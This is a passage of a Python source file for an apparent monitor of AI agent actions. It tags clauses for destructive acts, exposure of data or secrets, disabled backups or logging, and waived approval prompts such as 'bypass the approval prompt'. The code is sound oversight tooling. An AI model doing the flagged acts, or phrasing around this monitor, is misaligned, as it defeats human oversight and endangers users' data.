                      r"|\bunauthenticated\b|\banonymous\s+access\b")
_DATABASE_PORTS = words("5432 3306 27017 6379 9200 1433 1521 5984 9042 11211")
# What a team keeps of what happened: messages and events are records as much as logs are
_RECORDS = words("log logs history trail trails transcript transcripts record records evidence "
                 "message messages event events table tables channel blob blobs")
_OVERSIGHT = words("audit auditor auditors investigation investigators forensics forensic legal litigation "
                   "regulator regulators subpoena compliance legal-hold")
_PEOPLE = words("user users account accounts employee employees member members")
# The whole of what a company runs under one provider account: production lives there, named or not.
# Said as the place ("in the account", "for the entire organization") or as a reach ("org-wide").
_WHOLE_ACCOUNTS = words("account organization organisation org company tenant")
_ACCOUNT_WIDE = words("account-wide org-wide organization-wide organisation-wide company-wide tenant-wide")
_ACCOUNT_PLACE = words("in across for throughout of within from")
_ACCOUNT_HOLDINGS = frozenset({Obj.DATA, Obj.INFRA, Obj.BACKUP, Obj.MESSAGE, Obj.REPO})
# Words that pick some items out of "all": "all unused volumes", "every stale preview stack"
_SELECTING = words("unused stale old idle orphaned unattached expired inactive abandoned leftover dangling "
                   "obsolete deprecated temporary temp test testing demo sandbox preview unreferenced "
                   "untagged failed finished completed merged")
_EVERYTHING = words("all every entire whole everyone everything")
# where an organisation keeps its people: an identity directory, a mail domain, a mailing audience
_DIRECTORIES = words("org organisation organization tenant directory workspace okta idp ldap entra azuread "
                     "domain audience")
_TABLE_WORDS = words("table tables row rows record records column columns")
_MOVES_WORK = words("drain")  # the workloads move: cheap only where nothing is live
_FOR_A_WHILE = words("temporarily temporary briefly momentarily")
_PERMANENTLY = words("permanently permanent for-good forever")
_BOUND = re.compile(r"\bfor\s+(?:\d+|an?|one|two|few)\s*(?:m|h|d|mins?|minutes?|hours?|days?)\b"
                    r"|\buntil\b(?!\s+further\b)|\bwhile\b|\bduring\b")


_TOGGLED_OFF = words("pause suspend silence mute snooze drain cordon")
# What must keep running: pausing or silencing these loses records or protection while they are off.
_KEPT_RUNNING = words("backup backups audit auditing logging firewall monitoring monitor monitors alerts "
                      "alerting all every "
                      "everything replication billing")
_BACKUP_NAME = re.compile(r"(?:^|[-_.])(?:backups?|dumps?|snapshots?)(?:$|[-_.])")
_SECRETS_NAME = re.compile(r"(?:^|[-_./])(?:secrets?|credentials?|creds|passwords?)$")
_MADE_INTO = words("available accessible readable writable visible open shareable downloadable")


@dataclass
class Frame:
    """The words of one clause, sorted by what they contribute."""

    verbs: list[tuple[Act, str]]
    negated: list[str]
    objects: dict[Obj, list[str]]
    words: set[str]
    scope_all: list[str]
    bulk_numbers: list[str]
    dry_run: list[str]
    force: list[str]
    lease: bool
    skip_review: list[str]
    sudo: list[str]
    public: list[str]
    permission: list[str]
    unknown_role: bool
    located_only: frozenset[Obj] = frozenset()  # classes named only as a place ("from /var/log")
    name_lists: list[str] = field(default_factory=list)  # .gitignore and the like: lists of names
    internal: list[str] = field(default_factory=list)  # "our internal channel": the team, not outside
    paths: list[Tok] = field(default_factory=list)  # the paths named in the clause
    narrowed: list[str] = field(default_factory=list)  # "user 88123", "the 14 duplicate rows"
    order: list[str] = field(default_factory=list)  # the clause's words in reading order


# A document the team writes in ("into the comp-review doc"): what is put there is read by the team, as in
# an internal channel; an outside reader named beside it (a vendor, a personal mailbox) still counts.
_OWN_DOCUMENTS = words("doc docs document spreadsheet sheet wiki notebook deck")


_SHARED_WITH = re.compile(r"(?i)\bshared\s+with\b")


def _team_document(tokens: Sequence[Tok]) -> bool:
    """Is a document named in the clause the team's own place for what it carries? Not when the clause says
    who else it is shared with ("a doc shared with the whole company": a post to all of them), nor for data
    that harms the person it is about (pay, health, where they live) unless it names nobody."""
    said = " ".join(t.raw for t in tokens)
    if _SHARED_WITH.search(said):
        return False
    from dongle.classify.effect_words import EFFECT_WORDS  # compiled when a document is first named

    sensitive = EFFECT_WORDS["sensitive_people"].search(said)
    return not sensitive or bool(EFFECT_WORDS["deidentified"].search(said))


# What follows these is the way something is done or asked for, not what is carried: "request SSH access via
# the team vault" names where to ask; the secret sent through a channel comes before it ("the key via email").
_ROUTE_WORDS = words("via through")


def _named_as_route(tokens: Sequence[Tok], i: int) -> bool:
    """Is the token at `i` the object of "via"/"through" (with at most a determiner and one word between)?"""
    before = [u.low for u in tokens[max(0, i - 3) : i]]
    while before and before[-1] not in _ROUTE_WORDS and (before[-1] in DETERMINERS or len(before) > 1):
        before.pop()
    return bool(before) and before[-1] in _ROUTE_WORDS


# Data that names nobody: a table's shape, or figures with the people taken out ("column names only, no
# rows", "anonymised salary bands, no names"). Sent inside the organisation, it tells no one about anyone.
_NOBODY_WORDS = words("schema anonymized anonymised aggregated aggregate de-identified deidentified "
                      "synthetic redacted pseudonymized pseudonymised")
_NOBODY_PAIRS = frozenset({("no", "names"), ("no", "rows"), ("column", "names"), ("no", "pii")})


def _identifies_nobody(frame: Frame) -> bool:
    """Does the clause say its data names nobody (a schema, anonymised figures, no rows)?"""
    pairs = itertools.pairwise(frame.order)
    return bool(frame.words & _NOBODY_WORDS) or any(pair in _NOBODY_PAIRS for pair in pairs)


def _data_file_replaced(after: Sequence[Tok]) -> bool:
    """What "replace" takes, before any "with", is a data file (`budget.xlsx`, `customers.csv`)."""
    for t in after:
        if t.low in ("with", "by") or t.kind == "punct":
            return False
        if t.kind in ("path", "ident") and t.low.endswith(_DATA_SUFFIXES):
            return True
    return False


RESTORED_INTO_NEW = "restore into a new instance"
_NEW_TARGETS = words("new fresh throwaway separate scratch temporary temp another spare")


def _into_new(after: Sequence[Tok]) -> bool:
    """ "… into a NEW instance orders-restore-0612", "… to a fresh throwaway instance": the restore's
    target is made for it (nothing "over" or "onto" what exists)."""
    lows = [t.low for t in after]
    if {"over", "onto"} & set(lows):
        return False
    return any(w in ("into", "to", "as") and set(lows[j + 1:j + 4]) & _NEW_TARGETS
               for j, w in enumerate(lows))


# A word that refuses the force named right after it: "no force", "without --force", "non-force".
_FORCE_REFUSED = words("no without not non never")


def _frame(tokens: Sequence[Tok]) -> Frame:
    verbs: list[tuple[Act, str]] = []
    negated: list[str] = []
    objects: dict[Obj, list[str]] = {}
    words: set[str] = set()
    scope: list[str] = []
    bulk: list[str] = []
    dry: list[str] = []
    force: list[str] = []
    skip: list[str] = []
    sudo: list[str] = []
    public: list[str] = []
    perm: list[str] = []
    lease = False
    unknown_role = False
    negate_next = 0
    narrowed: list[str] = []
    located: dict[Obj, list[str]] = {}  # objects named after "in", "on", "from": where, not what
    verb_at = 0  # where the words after the first verb start
    last_verb = -1  # the last word read as an act, or the leading word of its object (see act_position)
    target_named = False  # a word the vocabulary does not know named what is acted on ("one Jira issue")
    where = objects
    cloud = any(t.low in CLOUD_PROVIDERS for t in tokens)  # see CLOUD_ACCOUNT_NOUNS
    tenants = CLOUD_ACCOUNT_NOUNS.union(*(PROVIDER_TENANTS.get(t.low, ()) for t in tokens))
    n = len(tokens)
    i = 0
    while i < n:
        t = tokens[i]
        nxt = tokens[i + 1] if i + 1 < n else None
        key = t.lem or t.low
        words.add(key)
        if t.kind == "word" and nxt is not None and nxt.kind == "word":
            pair = (t.lem, nxt.lem)
            if (t.low, nxt.low) in QUANTITIES:  # "free up some disk space": an amount, no object
                words.add(nxt.low)
                i += 2
                continue
            if pair in COMPOUND_OBJECTS and pair not in PHRASAL_VERBS:
                if not (COMPOUND_OBJECTS[pair] is Obj.SECRET and _about_the_secret(tokens, i + 2)):
                    where.setdefault(COMPOUND_OBJECTS[pair], []).append(f"{t.low} {nxt.low}")
                words.add(nxt.lem)
                i += 2
                continue
            if pair in PHRASAL_VERBS and not (pair == ("comment", "out") and t.low.endswith("ed")):
                # ("the commented-out blocks": what the code holds, not an act on it)
                act = PHRASAL_VERBS[pair]
                phrase = "push" if pair == ("force", "push") else f"{t.lem} {nxt.low}"
                if pair == ("force", "push") and not negate_next:  # a refused force-push forces nothing
                    force.append("force")
                if negate_next:
                    negated.append(phrase)
                else:
                    verbs.append((act, phrase))
                negate_next = 0
                last_verb = i + 1
                i += 2
                continue
            if (t.low, nxt.low) == ("rather", "than"):  # "rather than truncating it": refused
                negate_next = 3
                i += 2
                continue
            if pair == ("dry", "run"):
                if not negate_next:  # "not a dry run", "no dry run": the real thing
                    dry.append("dry run")
                i += 2
                continue
            unfiltered = _unfiltered(tokens, i)
            if unfiltered:
                scope.append(" ".join(u.low for u in tokens[i:i + unfiltered]))  # "with no filter": all of it
                i += unfiltered
                continue
            waived = _review_waived(tokens, i)
            if waived:
                skip.append(" ".join(t.low for t in tokens[i:i + waived]))
                i += waived
                continue
            if t.low == "without" and nxt.lem in (
                "backup",
                "review",
                "confirmation",
                "approval",
                "check",
                "verification",
                "test",
                "ask",
                "prompt",
                "permission",
                "confirm",
            ):
                skip.append(f"without {nxt.low}")
                i += 2
                continue
        dropped = _enforcement_dropped(tokens, i)
        if dropped or _keeps_none(tokens, i):
            # "from block to count mode": the protection stops enforcing ("block" names a mode, not an act);
            # "with rotate 0", "keep 0": a retention of nothing deletes what it rotates
            act, said = (Act.DISRUPT, tokens[i + 1].low) if dropped else (Act.DESTROY, "keep none")
            (negated.append(said) if negate_next else verbs.append((act, said)))
            negate_next = 0
            i += dropped or 2
            continue
        if _ceases(tokens, i):
            negate_next = 2  # "so it stops splitting ...": the behaviour after it is no longer done
            i += 1
            continue
        if key in MARKERS.negation and t.kind == "word" and not _attributive(tokens, i):
            negate_next = 3
            i += 1
            continue
        if t.low in HYPOTHETICAL and t.kind == "word" and not (nxt is not None and nxt.low in WISHES):
            negate_next = 3  # "what would be removed": a possibility described, not an act
            i += 1
            continue
        if t.kind == "word" and (t.low in LOCATIVES or (
                t.low in OWNING and objects and verbs and i and tokens[i - 1].low not in PARTITIVES)):
            # "the caches of the repo", "artifacts for the repo": after a target, whose it is, not what
            if where is objects:
                target_named = target_named or _names_a_target(tokens[verb_at:i])
            where = located
            i += 1
            continue
        if t.kind == "ident" and t.subs and t.subs[0] in MARKERS.public:
            public.append(t.low)  # "a public-read bucket", "the public-facing server"
        if t.kind == "flag" and loses_data(t.low.split("=", 1)[0]) and not t.low.startswith("--prune"):
            # "running the seed script with --reset": an option that tells the program to lose data is
            # that act, done to what the clause names (`--prune` drops what nothing refers to any more:
            # stale refs, dangling objects; the command judge weighs it per program)
            if negate_next:
                negated.append(t.low)
            else:
                verbs.append((Act.DESTROY, t.low.split("=", 1)[0]))
        if t.kind in ("word", "flag"):
            if key in MARKERS.scope_all or t.low in MARKERS.scope_all:
                scope.append(t.low)
            if (t.low in MARKERS.dry_run or key in MARKERS.dry_run) and not negate_next:
                dry.append(t.low)  # "(no --check)": the preview flag refused, so it runs for real
            if t.low in MARKERS.force_lease:
                lease = True
            elif t.low in MARKERS.force and not (t.low == "-f" and not any(v[1] == "push" for v in verbs)) \
                    and not (i and tokens[i - 1].low in _FORCE_REFUSED):  # "(normal push, no force)"
                force.append(t.low)
            if t.low in MARKERS.skip_review:
                skip.append(t.low)
            if t.low in MARKERS.sudo:
                sudo.append(t.low)
            if t.low in MARKERS.public and not names_the_source(tokens, i):
                public.append(t.low)  # ("from our public trust page": where it comes from, not where it goes)
            if t.low in MARKERS.permission:
                perm.append(t.low)
            if t.low in ("unknown", "external", "anonymous", "anyone", "everyone", "outside"):
                unknown_role = True
        elif t.kind == "num":
            if t.low in MARKERS.permission:
                perm.append(t.low)
            elif nxt is not None and nxt.kind == "word":
                try:
                    if int(t.low.replace(",", "").replace("_", "")) >= 100 and nxt.obj is not None:
                        bulk.append(f"{t.low} {nxt.low}")
                except ValueError:
                    pass
        elif t.kind in ("ident", "path") and t.low in MARKERS.skip_review:
            skip.append(t.low)
        if t.obj is not None and t.kind == "word" and (
            (nxt is not None and nxt.low.removesuffix("'s").isdigit())
            or (nxt is not None and nxt.low.startswith("#"))
        ):
            narrowed.append(f"{t.low} {nxt.low}")  # "user 88123", "order #12", "customer 8812's row"
        if t.kind == "word" and t.low in NARROWING:
            narrowed.append(t.low)
        if t.low in ("older", "newer") and nxt is not None and nxt.low == "than":
            narrowed.append(f"{t.low} than")  # retention: "snapshots older than 30 days"
        if t.kind == "num" and t.low.isdigit() and int(t.low) < 100 and any(
            u.obj is not None for u in tokens[i + 1 : i + 3]
        ):
            narrowed.append(f"{t.low} {tokens[i + 1].low}")  # "the 14 duplicate rows"
        if t.kind == "word" and t.low.startswith("restor") and any(
            u.low in ("over", "onto") for u in tokens[i + 1 :]
        ):
            # "restoring last night's backup over the staging database": what is there is replaced
            (negated.append("overwrite") if negate_next else verbs.append((Act.DESTROY, "overwrite")))
            negate_next = 0
            i += 1
            continue
        if t.kind == "word" and t.lem == "replace" and _data_file_replaced(tokens[i + 1:]):
            # "replacing the finance team's budget.xlsx with the regenerated one": the old content of a
            # data file (no version control behind it) is gone, whatever replaces it
            (negated.append("overwrite") if negate_next else verbs.append((Act.DESTROY, "overwrite")))
            negate_next = 0
            i += 1
            continue
        if t.kind == "word" and t.low.startswith("restor") and _into_new(tokens[i + 1:]):
            # "restoring last night's snapshot into a fresh throwaway instance": a new copy is made from
            # the backup; nothing that exists is replaced
            (negated.append("restore") if negate_next else verbs.append((Act.CHANGE, RESTORED_INTO_NEW)))
            negate_next = 0
            i += 1
            continue
        if t.kind == "word" and t.lem in _BINNING and _into_trash(tokens, i):
            # "moving everything in the shared drive to trash": deleted, and gone when the bin is emptied
            (negated.append("trash") if negate_next else verbs.append((Act.DESTROY, "trash")))
            negate_next = 0
            i += 1
            continue
        if t.kind == "word" and (t.low in _SNAPSHOT_VERBS or (t.low == "snapshot" and (
                not i or tokens[i - 1].low in _BEFORE_VERB))):
            # "snapshotting the prod EBS volume": a point-in-time copy is taken; nothing is changed
            (negated.append("back up") if negate_next else verbs.append((Act.REVEAL, "back up")))
            negate_next = 0
            i += 1
            continue
        if t.kind == "word" and t.lem in ("take", "make", "create"):
            j = i + 1
            while j < n and tokens[j].low in DETERMINERS | {"fresh", "full", "quick", "new"}:
                j += 1
            if t.lem == "create" or t.lem == "take":  # "creating an EBS snapshot": one word names its kind
                k = j
                while (k < j + 2 and k + 1 < n and tokens[k].kind == "word" and tokens[k].obj is None
                       and tokens[k].lem not in VERB_ACT and tokens[k].low not in BACKUP_NOUNS):
                    k += 1
                if k < n and tokens[k].low in BACKUP_NOUNS:
                    j = k
            after_noun = tokens[j + 1] if j + 1 < n else None
            # "making the backup bucket public", "making the backup readable": the noun only names
            # which thing is made into something else
            modifier = after_noun is not None and (
                after_noun.obj is not None or after_noun.low in MARKERS.public | _MADE_INTO)
            if j < n and tokens[j].low in BACKUP_NOUNS and not modifier:
                # "taking a pg_dump of ...", "making a backup of ...": the noun names the act
                (negated.append("back up") if negate_next else verbs.append((Act.REVEAL, "back up")))
                negate_next = 0
                i = j + 1
                continue
        if (t.lem == "get" and negate_next and nxt is not None and nxt.kind == "word"
                and nxt.low.endswith(("ed", "en")) and nxt.lem in VERB_ACT):
            i += 1  # "nothing gets applied": the passive's auxiliary; the refusal is the participle's
            continue
        is_verb = act_noun_head(tokens, i, VERB_ACT, bool(verbs)) or (
            t.kind == "word"
            and t.lem in VERB_ACT
            and not (nxt is not None and nxt.low in PROTECTIONS and t.low != t.lem)  # "deletion protection"
            and not _event_of_a_time(tokens, i)
            and not _held_nominal(tokens, i, verbs)
            and not _compound_noun(tokens, i)
            and not _reduced_relative(tokens, i, verbs)
            and not _made_by_agent(tokens, i)
            # "the last page was dropping one record": what was happening, told as the reason
            and not (i > 0 and tokens[i - 1].low in ("was", "were") and t.low.endswith("ing"))
            and not (t.lem == "send" and nxt is not None and nxt.low in _SIGNALS)  # "sending SIGTERM to"
            and not (i > 0 and tokens[i - 1].low in _STATE_WORDS and t.low.endswith(("ed", "en")))
            # "lint is clean", "the queue is empty": a base form after a copula says how a thing is
            and not (i > 0 and tokens[i - 1].low in _COPULAS and t.low == t.lem and not t.low.endswith("ing"))
            and not (t.obj is not None and _noun_use(tokens, i))
            and not (i > 0 and tokens[i - 1].low in DETERMINERS)
            and not _counted_plural(tokens, i)
            and not _listed_noun(tokens, i)
            and not _inside_noun_phrase(tokens, i, bool(verbs))
            and not _participle_adjective(t, nxt, tokens[i + 2] if i + 2 < n else None)
            and not _adjective_after_verb(tokens, i)
            and not (i > 0 and tokens[i - 1].low == "as" and t.low.endswith("ed"))  # "as scheduled"
            # "users with status SUSPENDED", "state=stopped": the value of a field, not an act
            and not (i > 0 and tokens[i - 1].low in ("status", "state", "statuses", "states"))
            and not _named_after_preposition(tokens, i)
            and not _future_auxiliary(tokens, i)
            and not _owned_noun(tokens, i)
        )
        if is_verb and not_an_act_position(tokens, i, last_verb):
            is_verb = False
            last_verb = i  # "computing kill switch stats": the object's words go on
        if is_verb:
            where = objects
            verb_at = verb_at or i + 1
            last_verb = i
            if negate_next:
                negated.append(t.low)
                # "won't publish or share it", "not deleting nor moving it": the refusal carries over "or"
                negate_next = 3 if nxt is not None and nxt.low in _ALTERNATIVES else 0
            elif t.lem in _SIGNAL_SENDS and any(_SIGNAL.match(u.low) for u in tokens):
                verbs.append((Act.DISRUPT, "kill"))  # "sending it SIGKILL": a signal is a kill, not a message
            else:
                verbs.append(_verb_act(tokens, i))
        elif (cloud and t.kind == "word" and t.lem in tenants and not _held_account(tokens, i)
              and not _member_removed_from(tokens, i) and _provider_account(tokens, t.lem)):
            where.setdefault(Obj.CLOUD_ACCOUNT, []).append(t.raw)
        elif t.obj is not None and negate_next and t.kind == "word":
            pass  # "no data", "without customer data": named to be excluded
        elif (
            t.obj in (Obj.DATA, Obj.INFRA, Obj.CONTAINER, Obj.CODE_PART)
            and nxt is not None
            and nxt.kind == "word"
            and nxt.lem in ("cache", "caches")
        ):
            pass  # "the Redis cache", "the query cache": a cache of something is a cache
        elif t.obj is Obj.CONTAINER and t.kind == "word" and i > 0 and tokens[i - 1].obj is Obj.EPHEMERAL:
            pass  # "the __pycache__ directories", "the node_modules folder": the folder is the cache
        elif t.obj is Obj.SECRET and t.kind in ("word", "ident") and _named_as_route(tokens, i):
            pass  # "request access via the 1Password vault": the way to ask, not what is sent
        elif t.obj is Obj.SECRET and t.kind == "word" and nxt is not None and nxt.low in SECRET_CHECKERS:
            where.setdefault(Obj.SECURITY, []).append(f"{t.raw} {nxt.raw}")  # "the secret scanner"
        elif t.obj is Obj.SECRET and t.kind == "word" and _about_the_secret(tokens, i + 1):
            pass  # "the password rotation policy", "the password reset portal": about secrets, none held
        elif t.obj is Obj.PERSISTENCE and t.lem == "profile" and _someones_profile(tokens, i):
            pass  # "the candidates' Greenhouse profiles": a record about a person, nothing runs at login
        elif t.obj in _CODE_MODIFIED and _names_code(tokens, i):
            where.setdefault(Obj.CODE_PART, []).append(t.raw)  # "the refresh-token rotation logic": code
        elif t.obj is not None:
            where.setdefault(t.obj, []).append(t.raw)
        if negate_next:
            negate_next -= 1
        i += 1
    direct = set(objects)
    for obj, names in located.items():
        # a cloud account named as a place holds the target; only with no target named is it the target
        if (not direct and not (obj is Obj.CLOUD_ACCOUNT and target_named)) or obj in ALWAYS_COUNTED:
            objects.setdefault(obj, []).extend(names)
    infra = objects.get(Obj.INFRA, [])
    if infra and all(n.lower() in ("function", "functions") for n in infra) and any(
        t.kind == "path" and "." in t.low.rsplit("/", 1)[-1] for t in tokens
    ):
        # "the unused helper function in lib/format.ts": code in a file, not a cloud function
        objects.setdefault(Obj.CODE_PART, []).extend(objects.pop(Obj.INFRA))
    located_only = frozenset(set(objects) - direct)
    name_lists = [t.raw for t in tokens if t.kind == "path" and t.low.rsplit("/", 1)[-1] in NAME_LISTS]
    # "to our internal #builds channel": the audience is the team; "the internal postmortem" is
    # what is sent, and says nothing about who receives it
    named = any(t.low in _OWN_DOCUMENTS for t in tokens)
    documents = _OWN_DOCUMENTS if named and _team_document(tokens) else frozenset()
    internal = [
        t.low for j, t in enumerate(tokens)
        if t.kind == "word" and (t.low in MARKERS.internal or _own_team(tokens, j) or t.low in documents)
        and any(u.low in _DESTINATION_PREPS for u in tokens[max(0, j - 3) : j])
    ] + team_channels(tokens) + [t.raw for t in tokens if t.low in _INTERNAL_TRACKERS]
    return Frame(
        verbs,
        negated,
        objects,
        words,
        scope,
        bulk,
        dry,
        force,
        lease,
        skip,
        sudo,
        public,
        perm,
        unknown_role,
        located_only,
        name_lists,
        internal,
        [t for t in tokens if t.kind == "path"],
        narrowed,
        [t.low for t in tokens],
    )


# A change sent to others' review: what it names is changed, if ever, once they merge it ("a PR that bumps
# the prod replica count"); a plan the agent applies itself ("applying; the plan says 1 to destroy") is not
_FOR_REVIEW = words("pr prs mr review reviewers approval proposal proposals rfc request")


def _without(names: list[str], gone: Sequence[str]) -> list[str]:
    """`names` less one occurrence of each word in `gone` (the same word may also be named elsewhere)."""
    left = list(names)
    for name in gone:
        if name in left:
            left.remove(name)
    return left


def _resembles(clause: Clause) -> bool:
    """A relative clause ("which mirrors production", ", that matches prod") whose verb compares the thing
    before it to another: a description of that thing, in the present tense, not an act."""
    lows = [t.low for t in clause.tokens[:2]]
    if clause.role != "relative" and lows[:1] in (["which"], ["that"]):
        lows = lows[1:]
    elif clause.role != "relative":
        return False
    return bool(lows) and lows[0] in COMPARING and lows[0].endswith("s")


# A protection's modes: one that enforces, and one that only watches ("from block to count mode")
_ENFORCING_MODES = words("block blocking enforce enforcing enforced prevent prevention deny")
_WATCHING_MODES = words("count counting monitor monitoring detect detection log log-only logging audit "
                        "report report-only permissive warn")
# Counts of what a rotation or a retention keeps: "rotate 0", "keep 0", "retention 0 days"
_KEPT_COUNTS = words("rotate keep retain retention maxage")


def _enforcement_dropped(tokens: Sequence[Tok], i: int) -> int:
    """ "from block to count mode", "from enforcing to permissive": how many words say a protection goes
    from enforcing to only watching (0 when they do not)."""
    n = len(tokens)
    if tokens[i].low != "from" or i + 1 >= n or tokens[i + 1].low not in _ENFORCING_MODES:
        return 0
    for j in range(i + 2, min(n - 1, i + 5)):
        if tokens[j].low == "to":
            return j + 2 - i if tokens[j + 1].low in _WATCHING_MODES else 0
    return 0


def _keeps_none(tokens: Sequence[Tok], i: int) -> bool:
    """ "with rotate 0", "keep 0 copies": a rotation or retention that keeps nothing deletes what it
    rotates."""
    return (tokens[i].low in _KEPT_COUNTS and i + 1 < len(tokens) and tokens[i + 1].kind == "num"
            and tokens[i + 1].low.strip("0") == "")


# Heads that a secret word only modifies, naming a rule, a place or a procedure about secrets that holds
# none: "the password rotation policy", "the self-service password reset portal", "MFA reset training".
# A procedure word that ends the phrase is the act itself ("a password reset for the CFO"), and a reset
# link is a credential: it opens the account.
_ABOUT_SECRETS = words("policy policies portal page requirement requirements rule rules complexity "
                       "expiry expiration strength length guidance guide docs documentation training prompt "
                       "prompts field form flow feature hygiene")


def _about_the_secret(tokens: Sequence[Tok], j: int) -> bool:
    """The secret word's phrase goes on to a head about secrets (see _ABOUT_SECRETS), at most one plain
    word between ("password rotation policy"): the phrase names that head, not a secret."""
    for t in tokens[j : j + 2]:
        if t.kind != "word" or t.obj is Obj.SECRET:
            return False
        if t.low in _ABOUT_SECRETS:
            return True
    return False


def _names_a_target(tokens: Sequence[Tok]) -> bool:
    """The words between a verb and a place name a target: a noun or a name, not only determiners,
    numbers or "all"/"everything" ("one Jira issue in the org", not "everything in the org")."""
    return any(t.kind in ("word", "ident") and t.low not in STOPWORDS and t.low not in DETERMINERS
               and t.low not in MARKERS.scope_all and t.low not in NARROWING and t.lem not in VERB_ACT
               for t in tokens)


_SIGNAL_SENDS = words("send deliver")
# POSIX signal names, a closed set ("signed", "signature" are words, not signals)
_SIGNAL = re.compile(r"^(?:sig(?:term|kill|hup|int|quit|stop|cont|usr[12]|abrt|alrm|tstp|winch|pipe|segv"
                     r"|trap|nal|nals)|-(?:9|15|1|2|kill|term|hup|int))$")


_AGENT = words("i i'll i'm we we'll we're let's you")
# What a running service does for others: a service that stops doing it is an outage, not a fix
_SERVING = words("serving taking accepting processing handling answering responding delivering sending "
                 "charging routing running")


_WAIVING = words("skip skips skipping skipped bypass bypasses bypassing bypassed evade evades evading")
_REVIEWS = words("review reviews approval approvals confirmation confirmations prompt prompts check checks "
                 "guard guards hook hooks permission permissions")
_BEING_ASKED = words("prompted asked blocked interrupted checked")


_FILTERS = words("filter filters where condition conditions criteria criterion selector query limit")


def _own_team(tokens: Sequence[Tok], i: int) -> bool:
    """ "to our team's #build-status channel": the audience is the agent's own team, as "internal" says
    ("the vendor team's channel" is someone else's team)."""
    return tokens[i].low in ("team's", "teams'") and i > 0 and tokens[i - 1].low in ("our", "my")


def _unfiltered(tokens: Sequence[Tok], i: int) -> int:
    """How many words at `i` say the act has no filter ("with no filter", "without a WHERE clause"): it
    reaches every record, as "all" says. 0 if none."""
    if tokens[i].low not in ("no", "without"):
        return 0
    for n, t in enumerate(tokens[i + 1:i + 3], start=1):
        if t.low in _FILTERS or t.lem in _FILTERS:
            return n + 1
        if t.low not in ("a", "any", "the"):
            return 0
    return 0


_NO_LONGER = words("doesn't don't won't can't cannot never")
_GUARD_FIRES = words("fire fires trigger triggers block blocks catch catches interfere intercept")


def _review_waived(tokens: Sequence[Tok], i: int) -> int:
    """How many words at `i` say that checks are waived ("so my commands skip review", "bypass the
    approval prompt", "so I stop getting prompted"), 0 if none: the purpose of the act is to get past
    the guard. "skipping the flaky test" waives nothing."""
    t = tokens[i]
    rest = [u.low for u in tokens[i + 1:i + 4]]
    if t.low in _WAIVING:
        for n, word in enumerate(rest[:2], start=1):
            if word in _REVIEWS:
                return n + 1
            if word not in ("the", "a", "its", "their", "my", "all", "any", "every", "human"):
                return 0
        return 0
    if t.low in ("stop", "stops") and len(rest) >= 2 and rest[0] in ("getting", "being") and \
            rest[1] in _BEING_ASKED:
        return 3
    if t.low in _NO_LONGER and rest[:1] and rest[0] in _GUARD_FIRES and i and tokens[i - 1].low in _ANAPHORS:
        return 2  # "so it doesn't fire", "so they won't block": the check is kept from acting
    return 0


def _ceases(tokens: Sequence[Tok], i: int) -> bool:
    """ "so the tokenizer stops splitting "can't"", "so the secrets stop showing up in git status": a
    subject other than the agent stops doing something, the result of what the agent does; "stop" is
    no act on a thing and the doing after it is not done. Not when what stops is kept running for
    safety (backups, audit, logging, a firewall): "so it stops running the nightly backups" is a
    safeguard switched off, judged as before."""
    t = tokens[i]
    nxt = tokens[i + 1] if i + 1 < len(tokens) else None
    prev = tokens[i - 1] if i else None
    if t.kind != "word" or t.lem != "stop" or nxt is None or not nxt.low.endswith("ing"):
        return False
    if prev is None or prev.kind != "word" or prev.low in _AGENT or _is_verb(prev) or (
            prev.low in STOPWORDS and prev.low not in ("it", "they", "this", "that")):
        return False  # "Stop logging ...", "I'll stop syncing ...", "to stop writing ...": the agent's act
    if nxt.low in _SERVING:
        return False  # "so the site stops serving customers": the service's work ends, an outage
    return not any(u.low in _KEPT_RUNNING or u.obj in (Obj.SECURITY, Obj.BACKUP) for u in tokens)


def _counted_plural(tokens: Sequence[Tok], i: int) -> bool:
    """A plural after a count is a noun: "the 12 messages" are things, nobody is messaged."""
    t = tokens[i]
    return i > 0 and tokens[i - 1].kind == "num" and t.low != t.lem and t.low.endswith("s")


_AND_OR = words("and or")


def _bare_verb(cur: Sequence[Tok]) -> bool:
    """The clause so far is a verb alone ("dropping and recreating the schema"): the verb after "and"
    shares its object, so both are one clause acting on the same thing."""
    said = [t for t in cur if t.kind == "word" and t.low not in _LEADING_ADVERBS]
    return len(said) == 1 and _is_verb(said[0])


_LEADING_ADVERBS = words("first then now next also just quickly")


def _listed_noun(tokens: Sequence[Tok], i: int) -> bool:
    """A verb-noun listed with nouns is a field or a thing, not an act: "names and emails" (a plural
    after a noun and "and", with no object of its own after it), "hides email and phone" (a base form
    before "and" and a word no verb spells). "The export and emails it to …" keeps its verb: its object
    follows; a gerund ("and emailing") is always the act."""
    t = tokens[i]
    if t.low.endswith(("ing", "ed")):
        return False
    nxt = tokens[i + 1] if i + 1 < len(tokens) else None
    if t.low != t.lem and t.low.endswith("s") and i >= 2 and tokens[i - 1].low in _AND_OR:
        before = tokens[i - 2]
        noun_before = before.kind == "word" and before.lem not in VERB_ACT and before.low not in PRONOUNS
        return noun_before and (nxt is None or nxt.kind != "word" or nxt.low in _LIST_ENDS)
    after = tokens[i + 2] if i + 2 < len(tokens) else None
    # (a word must come before it: "Email and Slack every customer" opens with its verbs)
    return (i > 0 and tokens[i - 1].kind == "word" and t.low == t.lem and nxt is not None
            and nxt.low in _AND_OR and after is not None
            and after.kind == "word" and after.lem not in VERB_ACT and after.low not in DETERMINERS
            and after.low not in PRONOUNS and not after.low.endswith("ing"))


# what may follow a listed noun: the end, or what the list is taken from (a "to" or "in" after it may
# name where an act sends it: "and posts to the vendor portal")
_LIST_ENDS = words("from of and or")


def _attributive(tokens: Sequence[Tok], i: int) -> bool:
    """A past participle after a determiner or a count, before a noun: "the 14 skipped tests", "the
    avoided rows" name things by a state, they refuse nothing."""
    t, prev = tokens[i], tokens[i - 1] if i else None
    nxt = tokens[i + 1] if i + 1 < len(tokens) else None
    return (t.low.endswith("ed") and prev is not None and (prev.low in DETERMINERS or prev.low.isdigit())
            and nxt is not None and nxt.kind == "word" and (nxt.obj is not None or nxt.lem not in VERB_ACT))


PRONOUNS = words("it them these those its")
SOURCE_SUFFIXES = (".py", ".js", ".ts", ".tsx", ".jsx", ".go", ".rs", ".java", ".rb", ".kt", ".swift", ".php",
                   ".c", ".h", ".cpp", ".cs", ".scala", ".vue", ".svelte")
LOG_KEEPING = words("rotate compress archive")
def _only_secret_checks(named: Sequence[str]) -> bool:
    """Every security control named is a secret check ("secret scanner", "secret-scanning")."""
    return all(n.lower().startswith("secret") and re.split(r"[\s_-]+", n.lower())[-1] in _SCANS
               for n in named)


_SCANS = words("scanner scanners scan scanning detector detection")


